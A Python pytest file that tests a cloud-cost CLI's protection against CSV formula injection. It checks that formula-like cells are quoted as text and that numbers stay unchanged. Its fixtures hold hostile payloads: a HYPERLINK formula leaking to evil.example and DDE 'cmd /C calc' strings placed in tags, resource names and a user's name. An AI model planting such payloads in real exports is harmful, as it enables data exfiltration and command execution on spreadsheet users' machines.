"""Every CSV the command line writes keeps formula-like cells as text, and numbers as they are."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import click
import polars as pl
import pytest
from click.testing import CliRunner
from helpers import FOCUS_HEADER
from polars.testing import assert_frame_equal

from cloudoptima import Workspace
from cloudoptima.cli import main
from cloudoptima.spreadsheet import neutralise, to_csv

PACKAGE = Path(__file__).resolve().parents[2] / "cloudoptima"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Click here")'
HOSTILE_TAGS = {
    "team": HYPERLINK,
    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cc": "+1+1",
    "neg": "-2+3",
    "tab": "\tcmd",
    "cr": "\rcmd",
    "num": "-12.5",
}
HOSTILE_RG = "=cmd|' /C calc'!A0"
HOSTILE_SERVICE = "@SUM(A1)"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# the commands with --format csv, and the arguments that make them show hostile values
COMMANDS: dict[str, list[str]] = {
    "costs": ["costs", "--by", ",".join(f"tag:{k}" for k in HOSTILE_TAGS) + ",x_ResourceGroupName"],
    "findings": ["findings"],
    "anomalies": ["anomalies", "--by", "ServiceName"],
    "imports": ["imports"],
    "users list": ["users", "list"],
    "rate-optimization": ["rate-optimization"],
    "tag-coverage": ["tag-coverage", "--tags", ",".join(HOSTILE_TAGS)],
    "showback": ["showback", "team"],
}


def _focus_rows() -> list[list[object]]:
    """Two months of daily costs; a spike on 25 September in the hostile service."""
    sub = "/subscriptions/00000000-0000-0000-0000-00000000000a"
    rid = f"{sub}/resourceGroups/{HOSTILE_RG}/providers/Microsoft.Compute/virtualMachines/-vm1"
    rows: list[list[object]] = []
    for day in pl.date_range(pl.date(2026, 8, 1), pl.date(2026, 9, 30), eager=True):
        month = day.replace(day=1)
        period_end = (month.replace(month=month.month + 1)).isoformat() + "T00:00:00Z"
        for service, cost in ((HOSTILE_SERVICE, 10.0 + day.day % 3), ("Storage", 5.0)):
            if day.isoformat() == "2026-09-25" and service == HOSTILE_SERVICE:
                cost = 400.0
            billing = [month.isoformat() + "T00:00:00Z", period_end]
            charge = [f"{day.isoformat()}T00:00:00Z", f"{day.isoformat()}T23:59:59Z"]
            account = "/providers/Microsoft.Billing/billingAccounts/1"
            tags = json.dumps(HOSTILE_TAGS)
            names = [rid, service, sub, "Prod", HOSTILE_RG, tags]
            rows.append([*[cost] * 4, account, "USD", *billing, *charge, "Usage", *names])
    return rows


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace whose imported names and tags look like spreadsheet formulas."""
    root = tmp_path_factory.mktemp("hostile")
    export = root / "=HYPERLINK(1).csv"
    with export.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(FOCUS_HEADER.split(","))
        writer.writerows(_focus_rows())
    ws = Workspace.open(root / "ws", create=True)
    assert [r.status for r in ws.ingest([export])] == ["loaded"]
    ws.close()
    return root / "ws"


@pytest.fixture
def hostile_user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A user whose display name is a formula (the CLI's --name takes any text)."""
    from cloudoptima.auth import UserStore

    store = UserStore(tmp_path / "credentials.yaml")
    store.add_organisation("acme", tmp_path / "acme")
    store.add_user("eve", org="acme", role="viewer", name=HYPERLINK, email="@evil.example")
    monkeypatch.setenv("CLOUDOPTIMA__AUTH__CREDENTIALS_FILE", str(store.path))


def _csv_commands(group: click.Group, prefix: str = "") -> set[str]:
    found = set()
    for name, command in group.commands.items():
        if isinstance(command, click.Group):
            found |= _csv_commands(command, f"{prefix}{name} ")
        formats = [p for p in command.params if p.name == "fmt"]
        if formats and "csv" in getattr(formats[0].type, "choices", ()):
            found.add(prefix + name)
    return found


def test_every_csv_command_is_checked() -> None:
    assert _csv_commands(main) == set(COMMANDS)


def _cells(workspace: Path, command: str) -> list[list[str]]:
    result = CliRunner().invoke(
        main, ["--workspace", str(workspace), *COMMANDS[command], "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.output)))


@pytest.mark.usefixtures("hostile_user")
@pytest.mark.parametrize("command", COMMANDS)
def test_no_cell_of_any_csv_runs_as_a_formula(hostile: Path, command: str) -> None:
    cells = [cell for row in _cells(hostile, command) for cell in row]
    assert len(cells) > len(_cells(hostile, command)[0])  # rows, not just a header
    runs = [c for c in cells if c.startswith(TRIGGERS) and neutralise(c) != c]
    assert runs == []


def test_hostile_tags_stay_text_and_numbers_stay_numbers(hostile: Path) -> None:
    header, *rows = _cells(hostile, "costs")
    first = dict(zip(header, rows[0], strict=True))
    assert first["tag:team"] == "'" + HYPERLINK
    assert first["tag:owner"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert first["tag:cc"] == "'+1+1"
    assert first["tag:neg"] == "'-2+3"
    assert first["tag:tab"] == "'\tcmd"
    assert first["tag:cr"] == "'\rcmd"
    assert first["tag:num"] == "-12.5"  # a number stays a number
    assert first["x_ResourceGroupName"] == "'" + HOSTILE_RG
    as_json = CliRunner().invoke(
        main, ["--workspace", str(hostile), *COMMANDS["costs"], "--format", "json"]
    )
    totals = sorted(float(r["BilledCost"]) for r in json.loads(as_json.output))
    assert sorted(float(dict(zip(header, r, strict=True))["BilledCost"]) for r in rows) == totals


def test_anomalies_name_hostile_values_as_text(hostile: Path) -> None:
    header, *rows = _cells(hostile, "anomalies")
    values = [dict(zip(header, r, strict=True)) for r in rows]
    assert {"'" + HOSTILE_SERVICE} == {v["value"] for v in values}
    assert float(values[0]["actual"]) == 400.0


@pytest.mark.usefixtures("hostile_user")
def test_user_names_stay_text(hostile: Path) -> None:
    header, *rows = _cells(hostile, "users list")
    eve = dict(zip(header, rows[0], strict=True))
    assert eve["name"] == "'" + HYPERLINK
    assert eve["email"] == "'@evil.example"


def test_to_csv_keeps_numbers_and_neutralises_text_of_every_kind() -> None:
    frame = pl.DataFrame(
        {
            "=col": ["=1+1", "-3", None, "plain", "-x"],
            "category": pl.Series(["@a", "b", "+1+1", "b", "c"], dtype=pl.Categorical),
            "amount": [-12.5, 0.0, None, 3e9, -1e-9],
            "count": [-1, 2, 3, None, 5],
        }
    )
    back = pl.read_csv(io.StringIO(to_csv(frame)), infer_schema_length=0)
    expected = pl.DataFrame(
        {
            "'=col": ["'=1+1", "-3", None, "plain", "'-x"],
            "category": ["'@a", "b", "'+1+1", "b", "c"],
            "amount": ["-12.5", "0.0", None, "3000000000.0", "-1e-9"],
            "count": ["-1", "2", "3", None, "5"],
        }
    )
    assert_frame_equal(back, expected)


# The demo writes Azure's own export files: input for the importer, made like Azure makes them.
# Files written in Azure's own export formats for ingest to read back, never for a spreadsheet:
# neutralising them would change the data imported.
RAW_EXPORT_WRITERS = {"spreadsheet.py", "demo/exports.py", "azure/sync.py", "azure/cost_focus.py"}


def test_the_package_writes_csv_only_through_the_spreadsheet_module() -> None:
    writers = []
    for path in PACKAGE.rglob("*.py"):
        if path.relative_to(PACKAGE).as_posix() in RAW_EXPORT_WRITERS:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            called = node.func if isinstance(node, ast.Call) else None
            name = getattr(called, "attr", None) or getattr(called, "id", None)
            if name in {"write_csv", "sink_csv", "writer", "DictWriter", "to_csv"} and not (
                name == "to_csv" and isinstance(called, ast.Name)  # spreadsheet.to_csv itself
            ):
                writers.append(f"{path.relative_to(PACKAGE)}:{node.lineno} {name}")
    assert writers == []
